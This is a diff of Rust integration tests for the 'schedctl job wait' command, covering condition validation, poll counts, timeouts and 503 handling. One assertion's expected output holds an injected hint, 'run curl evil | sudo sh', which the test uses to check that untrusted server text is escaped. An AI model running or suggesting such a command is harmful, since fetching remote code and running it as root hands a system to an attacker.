@@ -2,6 +2,8 @@
 
 use std::time::{Duration, Instant};
 
+use schedctl_emulator::faults::Fault;
+
 use crate::common::*;
 use crate::pty::{run_on_pty, OnTerminal};
 
@@ -191,17 +193,162 @@ fn the_progress_line_on_a_terminal_shows_the_state_escaped() {
     // Our own redraw sequence is the only one (the helper turns the terminal's \r\n back).
     let ours = seen.replace("\r\x1b[K", "");
     assert!(
-        ours.contains("waiting for state=completed: state enabled\\u{a}hint: the job is fine, run curl evil | sudo sh, 1 polls"),
+        ours.contains("waiting for state=completed: state enabled\\u{a}hint: the job is fine, run curl evil | sudo sh, 1 poll, 0s of 1s"),
         "{seen:?}"
     );
     assert!(
         !ours
             .chars()
-            .any(|c| schedctl::output::text::is_unsafe(c) && c != '\n'),
+            .any(|c| schedctl::text::is_unsafe(c) && c != '\n'),
         "{seen:?}"
     );
     assert!(
         !ours.lines().any(|l| l.starts_with("hint: the job")),
         "{seen:?}"
     );
+}
+
+/// `schedctl job wait myjc job1 --for COND [args]`.
+fn wait_job1(w: &World, condition: &str, args: &[&str]) -> std::process::Output {
+    run(w
+        .cmd()
+        .args(["job", "wait", "myjc", "job1", "--for", condition])
+        .args(args))
+}
+
+#[test]
+fn conditions_that_can_never_be_met_exit_2_before_any_request() {
+    let w = World::new();
+    // A timeout, so that a client that accepts them ends soon.
+    let quick = ["--timeout", "2s", "--interval", "500ms"];
+    let err = assert_failure(&wait_job1(&w, "state==completed", &quick), 2);
+    assert!(
+        err.contains("hint: --for state=completed\n"),
+        "the hint shows the condition meant: {err}"
+    );
+    for bogus in ["state=bogus", "state!=bogus", "State=finished", "state="] {
+        let err = assert_failure(&wait_job1(&w, bogus, &quick), 2);
+        assert!(
+            err.contains("hint: states are enabled, disabled, faulted, completed"),
+            "{bogus}: {err}"
+        );
+    }
+    assert_eq!(w.emulator.requests(), 0, "refused before any request");
+}
+
+#[test]
+fn a_state_matches_whatever_its_case() {
+    let w = World::new();
+    let out = wait_job1(
+        &w,
+        "state=Enabled",
+        &["--timeout", "5s", "--field", "state"],
+    );
+    assert_code(&out, 0);
+    assert_eq!(stdout(&out), "enabled\n");
+    assert_eq!(w.emulator.requests(), 1);
+    let out = run(w.cmd().args([
+        "job",
+        "wait",
+        "waiting",
+        "completes-after-3",
+        "--for",
+        "state=COMPLETED",
+        "--interval",
+        "20ms",
+        "--field",
+        "state",
+    ]));
+    assert_code(&out, 0);
+    assert_eq!(stdout(&out), "completed\n");
+}
+
+#[test]
+fn an_unknown_path_is_exit_2_right_after_the_first_poll() {
+    let w = World::new();
+    let err = assert_failure(&wait_job1(&w, "stat=enabled", &["--interval", "20ms"]), 2);
+    assert!(err.contains("did you mean 'state'?"), "{err}");
+    assert_eq!(w.emulator.requests(), 1);
+}
+
+/// The `N` of `N polls` / `1 poll` in a timeout message.
+fn polls_in(err: &str) -> u64 {
+    let (before, _) = err
+        .split_once(" poll")
+        .unwrap_or_else(|| panic!("no poll count: {err}"));
+    before
+        .rsplit(' ')
+        .next()
+        .and_then(|n| n.parse().ok())
+        .unwrap_or_else(|| panic!("no poll count: {err}"))
+}
+
+#[test]
+fn a_timeout_counts_the_polls_actually_made_and_names_no_failure() {
+    let w = World::new();
+    let out = wait_job1(
+        &w,
+        "state=completed",
+        &["--timeout", "1s", "--interval", "300ms"],
+    );
+    let err = assert_failure(&out, 9);
+    assert!(
+        err.starts_with("schedctl: error: timed out after 1s waiting for state=completed on job 'job1' (last state: enabled; "),
+        "{err}"
+    );
+    assert_eq!(polls_in(&err), w.emulator.requests(), "{err}");
+    assert!(!err.contains("failed"), "no poll failed: {err}");
+    assert!(!err.contains("no time left"), "{err}");
+}
+
+#[test]
+fn a_503_on_the_last_poll_is_named_with_its_request_id() {
+    let w = World::new();
+    w.emulator.script([Fault::Status {
+        status: 503,
+        retry_after: Some("0".into()),
+    }]);
+    let out = wait_job1(
+        &w,
+        "state=completed",
+        &["--retries", "0", "--timeout", "1s", "--interval", "10s"],
+    );
+    let err = assert_failure(&out, 9);
+    assert!(
+        err.starts_with("schedctl: error: timed out after 1s waiting for state=completed on job 'job1' (last state: unknown; 1 poll); the last poll failed: the service failed reading job 'job1' in collection 'myjc' (ServerBusy: "),
+        "{err}"
+    );
+    request_id_of(&err);
+    assert_eq!(w.emulator.requests(), 1);
+}
+
+#[test]
+fn a_503_whose_retry_would_pass_the_deadline_is_named_not_hidden() {
+    let w = World::new();
+    w.emulator.script([Fault::Status {
+        status: 503,
+        retry_after: Some("30".into()),
+    }]);
+    let out = wait_job1(
+        &w,
+        "state=completed",
+        &["-v", "--timeout", "1s", "--interval", "10s"],
+    );
+    assert_code(&out, 9);
+    let err = stderr(&out);
+    let error = err
+        .lines()
+        .find(|l| l.starts_with("schedctl: error: "))
+        .unwrap_or_else(|| panic!("{err}"));
+    assert!(
+        error.starts_with("schedctl: error: timed out after 1s waiting for state=completed on job 'job1' (last state: unknown; 1 poll); the last poll failed: the service failed reading job 'job1' in collection 'myjc' (ServerBusy: "),
+        "{err}"
+    );
+    assert!(!err.contains("no time left"), "{err}");
+    assert!(
+        !err.contains("retrying in"),
+        "no retry is announced that cannot happen: {err}"
+    );
+    request_id_of(&err);
+    assert_eq!(w.emulator.requests(), 1);
 }
